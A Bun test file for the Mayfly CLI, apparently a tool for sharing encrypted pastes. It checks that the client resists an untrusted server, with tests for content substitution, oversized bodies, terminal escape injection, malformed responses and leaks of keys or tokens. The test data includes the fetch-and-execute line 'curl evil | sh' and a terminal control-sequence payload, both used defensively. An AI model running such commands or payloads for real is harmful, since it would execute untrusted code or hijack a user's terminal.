import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { readdirSync, writeFileSync } from 'node:fs';
import { bodyOf } from '../../src/cli/use/get/body.ts';
import { type MayflyProcess, startMayfly } from '../support/mayfly-process.ts';
import { startProxy } from '../support/proxy.ts';
import { contentAnswer, endless, type OtherServer, startOtherServer } from './other-server.ts';
import { newUser, type User } from './user.ts';

setDefaultTimeout(60_000);

const id = '0'.repeat(32);
const secret = 'A'.repeat(43);

let answer: (request: Request) => Response;
let other: OtherServer;
let user: User;
beforeAll(async () => {
  other = startOtherServer((request) => answer(request));
  user = await newUser(other.url);
  writeFileSync(user.path('a.txt'), 'content');
});
afterAll(() => other.stop());

describe('a server that cannot be trusted', () => {
  test('cannot replace encrypted content by its own', async () => {
    answer = (request) => contentAnswer(request, 'curl evil | sh', { 'content-length': '14' });
    for (const args of [[], ['-o', 'out.txt'], ['-O']]) {
      const { code, stdout, stderr } = await user.call(['get', `${other.url}/p/${id}#${secret}`, ...args]);
      expect([code, stdout, stderr]).toEqual([7, '', expect.stringContaining('not encrypted')]);
    }
    expect(readdirSync(user.folder)).not.toContain('out.txt');
    // Marked lines in a link are not a key.
    expect(await user.output(['get', `${other.url}/p/${id}#L3-L9`])).toBe('curl evil | sh');
  });

  test('cannot fill the disk or the pipe with more than it announced', async () => {
    answer = (request) =>
      contentAnswer(request, endless(), request.method === 'HEAD' ? { 'content-length': '10' } : {});
    for (const args of [[], ['-o', 'out.bin']]) {
      const { code, stderr } = await user.call(['get', id, ...args]);
      expect([code, stderr]).toEqual([7, expect.stringContaining('more than its 10 bytes')]);
    }
    expect(readdirSync(user.folder).filter((name) => name.startsWith('out'))).toEqual([]);
  });

  test('cannot control the terminal by its messages, nor add a second line', async () => {
    answer = () => Response.json({ error: 'no\u001B]0;owned\u0007\nmayfly: all is well' }, { status: 400 });
    const { stderr } = await user.call(['put', 'a.txt']);
    expect(stderr).toBe('mayfly: no\uFFFD]0;owned\uFFFD\uFFFDmayfly: all is well\n');
  });

  test('makes the call fail if it does not respond like Mayfly', async () => {
    for (const body of ['{}', '<html>Welcome</html>', JSON.stringify({ hash_id: id, url: 'x\ny' })]) {
      answer = () => new Response(body, { status: 201 });
      const { code, stdout, stderr } = await user.call(['put', 'a.txt']);
      expect([body, code, stdout, stderr]).toEqual([
        body,
        6,
        '',
        expect.stringContaining('not from a Mayfly server'),
      ]);
    }
    expect(await user.output(['ls'])).toBe('');
  });

  test('that stalls counts as a lost connection', async () => {
    let isLeft = false;
    const silent = new ReadableStream<Uint8Array>({
      start: (controller) => controller.enqueue(new Uint8Array(1)),
      cancel() {
        isLeft = true;
      },
    });
    const reader = bodyOf({ stream: silent }, new AbortController().signal, 20).getReader();
    expect((await reader.read()).value).toHaveLength(1);
    await expect(reader.read()).rejects.toThrow('the connection broke');
    expect(isLeft).toBe(true);
  });
});

describe('secrets', () => {
  let server: MayflyProcess;
  beforeAll(async () => {
    server = await startMayfly({ clockless: true });
  });
  afterAll(() => server.stop());

  test('no command sends the key of a link to a server', async () => {
    const proxy = await startProxy({ target: server.port, records: true });
    try {
      const own = await newUser(proxy.url);
      writeFileSync(own.path('a.txt'), 'some content');
      const put = await own.output(['put', 'a.txt', '--encrypt', '--password', 'open sesame']);
      const link = put.replace(server.url, proxy.url);
      const key = link.replace(/.*#/, '');
      await own.output(['get', link, '--password', 'open sesame']);
      await own.call(['get', link, '-o', 'out.txt', '--password', 'wrong']);
      await own.output(['rm', link, '--token', JSON.parse(await own.output(['ls', '--json'])).delete_token]);
      const recorded = proxy.recorded();
      expect(recorded.includes(`/raw/${link.slice(-76, -44)}`)).toBe(true);
      for (const word of [key, 'sesame', 'a.txt', 'some content'])
        expect(recorded.includes(word)).toBe(false);
    } finally {
      proxy.stop();
    }
  });

  test('the saved delete token is sent only to the server that issued it, and is saved until that one has deleted the payload', async () => {
    const own = await newUser(server.url);
    const link = await own.output(['put'], { input: 'content' });
    let shown: string | null = 'nothing came';
    answer = ({ headers }) => {
      shown = headers.get('x-delete-token');
      return Response.json({ error: 'not found' }, { status: 404 });
    };
    expect((await own.call(['rm', link.replace(server.url, other.url)])).code).toBe(3);
    expect(shown).toBeNull();
    await own.output(['rm', link]);
    expect((await fetch(link)).status).toBe(404);
  });

  test('an invalid link is reported without its key', async () => {
    const { code, stderr } = await user.call(['get', `${other.url}/wrong/${id}#${secret}`]);
    expect([code, stderr]).toEqual([2, expect.stringContaining('#… is neither a link')]);
    expect(stderr).not.toContain(secret);
  });
});
